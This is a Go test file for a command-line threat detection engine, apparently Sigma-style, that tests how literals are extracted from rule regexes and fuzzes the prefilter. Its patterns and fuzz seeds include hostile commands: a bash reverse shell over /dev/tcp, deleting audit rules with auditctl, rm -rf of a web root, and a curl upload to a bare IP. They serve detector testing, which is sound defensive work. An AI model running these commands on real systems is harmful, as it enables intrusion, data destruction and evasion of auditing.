package detect

import (
	"slices"
	"testing"
)

func TestRequiredLiterals(t *testing.T) {
	tests := []struct {
		re   string
		want []string // nil: no prefilter
	}{
		{`\s(-D|-e\s*0|-d\s|-W\s)`, []string{"-D", "-e", "-d", "-W"}},
		{`/dev/(tcp|udp)/`, []string{"/dev/tcp/", "/dev/udp/"}},
		{`(^|[\s;|&(/])(nohup|setsid|disown)(\s|$)`, []string{"nohup", "setsid", "disown"}},
		{`\s-l(\s|$)`, []string{"-l"}},
		{`\s\S+:\S*$`, nil},      // nothing literal
		{`a|bc`, nil},            // one-byte literal: in every line
		{`(?i)bash -i`, nil},     // folded: exact check only
		{`x*yz`, []string{"yz"}}, // starred part is optional
		{`(ab){2,}`, []string{"abab"}},
	}
	for _, tt := range tests {
		got, _ := requiredLiterals(tt.re)
		slices.Sort(got)
		want := slices.Clone(tt.want)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("requiredLiterals(%q) = %q, want %q", tt.re, got, want)
		}
	}
}

// FuzzPrefilter: the literal check never rejects a text that a built-in
// rule's regular expression matches.
func FuzzPrefilter(f *testing.F) {
	e, err := New(Options{})
	if err != nil {
		f.Fatal(err)
	}
	var ms []*valueMatcher
	for _, r := range e.Rules() {
		if r.det == nil {
			continue
		}
		for _, s := range r.det.searches {
			for _, m := range s.maps {
				for _, fm := range m {
					for i := range fm.vals {
						if v := &fm.vals[i]; v.op == opRegexp {
							ms = append(ms, v)
						}
					}
				}
			}
		}
	}
	if len(ms) == 0 {
		f.Fatal("no regular expressions in the built-in rules")
	}
	for _, s := range []string{"sh -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "auditctl -D", "rm -rf /var/www", "curl -T /tmp/x http://1.2.3.4/", "nohup ./x &"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, m := range ms {
			if m.re.MatchString(s) && !m.mayMatch(s, s) {
				t.Fatalf("prefilter %q rejects %q, which %s matches", m.lits, s, m.re)
			}
		}
	})
}
